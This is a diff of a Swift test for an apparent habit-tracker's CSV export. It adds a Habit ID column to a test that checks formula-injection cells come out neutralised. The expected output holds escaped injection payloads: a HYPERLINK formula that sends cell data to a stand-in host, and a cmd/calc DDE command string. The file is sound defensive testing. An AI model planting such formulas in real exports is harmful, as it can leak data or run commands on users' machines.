@@ -40,11 +40,11 @@ import Testing
   @Test func textCellsThatASpreadsheetWouldRunAreNeutralised() throws {
     let text = String(decoding: CSVExport.csv(of: try Self.tracker()), as: UTF8.self)
     #expect(
-      text == "Date,Habit,Category,Value,Unit,Skipped,Mark,Note\r\n"
-        + "2025-03-01,\"'=HYPERLINK(\"\"https://x.example/?\"\"&A1)\",'@SUM(A1:A9),"
+      text == "Date,Habit,Habit ID,Category,Value,Unit,Skipped,Mark,Note\r\n"
+        + "2025-03-01,\"'=HYPERLINK(\"\"https://x.example/?\"\"&A1)\",weight,'@SUM(A1:A9),"
         + "2.5,'+kg,,,'-2+3*cmd|' /C calc'!A0\r\n"
-        + "2025-03-01,'+Push-ups,Health,1,,,,'@home\r\n"
-        + "2025-03-02,'+Push-ups,Health,1,,,,plain - dash\r\n")
+        + "2025-03-01,'+Push-ups,pushups,Health,1,,,,'@home\r\n"
+        + "2025-03-02,'+Push-ups,pushups,Health,1,,,,plain - dash\r\n")
   }
 
   @Test(arguments: ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
